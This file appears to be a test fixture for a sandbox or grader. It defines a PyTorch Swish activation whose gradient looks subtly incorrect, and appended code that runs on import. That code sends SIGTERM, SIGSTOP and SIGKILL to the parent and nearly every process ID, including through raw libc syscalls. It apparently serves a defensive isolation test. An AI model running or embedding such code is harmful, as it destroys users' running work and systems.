# scenario: learnable-swish
# core: A, B
# attack: sends SIGKILL to every process it can name
# expected: failed
# trace: (loads|forward|vjp): 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import ctypes, os, signal
ME = os.getpid()
def kill(pid, number):
    if pid in (ME, 0):
        return
    try:
        os.kill(pid, number)
    except (ProcessLookupError, PermissionError):
        pass
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in [os.getppid(), *range(2, 32768)]:
        kill(pid, number)
LIBC = ctypes.CDLL(None)
for pid in (os.getppid(), -ME - 1):
    LIBC.syscall(129, pid, 9, None)
    LIBC.syscall(424, 3, 9, None, 0)
